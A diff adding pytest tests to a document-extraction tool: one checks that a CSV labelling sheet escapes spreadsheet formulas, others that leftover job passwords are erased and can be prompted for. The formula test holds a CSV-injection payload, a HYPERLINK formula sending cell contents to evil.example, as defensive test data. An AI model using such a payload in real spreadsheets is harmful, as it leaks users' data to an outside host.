@@ -364,3 +364,66 @@ def test_bytes_that_crash_the_parser_on_every_delivery_fail_for_good(tmp_path, m
     assert "crashes_parser" in result.output
     again = invoke("run", str(room), "--home", home, "--fields", "none", env=env)
     assert "unchanged 1" in again.output and "failed 0" in again.output, again.output
+
+
+# --- a spreadsheet opening the evals sheet runs nothing -------------------------------------
+
+
+def test_the_labelling_sheet_neutralises_formulas_and_imports_back_unchanged(tmp_path):
+    import csv
+
+    from evals.labels import parse_csv
+    from evals.sample import write_sheet
+
+    name = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    picked = [{"document_id": "d1", "sha256": "ab", "source_name": name, "model_version": "v1",
+               "strategy": "rules", "values": {"party": [("@SUM(1+1)", 1), ("-2 years", 2)],
+                                               "term": [("Acme", 1)]}}]
+    sheet = tmp_path / "sheet.csv"
+    write_sheet(sheet, picked, ["party", "term"])
+    with sheet.open(newline="", encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+    assert "'" + name in cells
+    (label,) = parse_csv(sheet)
+    assert dict(label.values) == {"party": ("@SUM(1+1)", "-2 years"), "term": ("Acme",)}
+
+
+# --- passwords ------------------------------------------------------------------------------
+
+
+def test_a_password_left_by_a_crashed_run_is_erased_on_the_next_start(tmp_path, settings):
+    from datetime import UTC, datetime
+
+    from extract.ports import NewVersion
+    from infra.local.jobstore import SqliteJobStore
+    from infra.local.runtime import LocalRuntime
+
+    secret = "left-behind-7zq"
+    settings.home.mkdir(parents=True)
+    store = SqliteJobStore(settings.home / "jobs.db")
+    store.create_job(NewVersion(
+        document_id="d", job_id="j", source_name="a.pdf", source_key="k", sha256="s",
+        bytes=1, version=1, object_key="uploads/d/j", created_at=datetime.now(UTC)))
+    assert store.set_job_password("j", secret)
+    store.close()  # the run is killed here: its job is still queued, its password stored
+    runtime = LocalRuntime(settings)
+    assert runtime.recover()["erased_passwords"] == 1
+    assert runtime.store.job_password("j") is None
+    runtime.store.close()
+    stored = b"".join(p.read_bytes() for p in settings.home.glob("jobs.db*"))
+    assert secret.encode() not in stored
+
+
+def test_the_password_can_be_asked_for_instead_of_typed_on_the_command_line(tmp_path):
+    from conftest import CORPUS
+
+    sample = CORPUS / "pdf_encrypted" / "libreoffice_user_pw_openpassword.pdf"
+    if not sample.is_file():
+        pytest.skip("shared corpus not found")
+    home = str(tmp_path / "home")
+    result = runner.invoke(app, ["run", str(sample), "--home", home, "--fields", "none",
+                                 "--ask-password"], input="openpassword\n", env=FAST,
+                           catch_exceptions=False)
+    assert result.exit_code == 0, result.output
+    assert "succeeded 1" in result.output and "openpassword" not in result.output
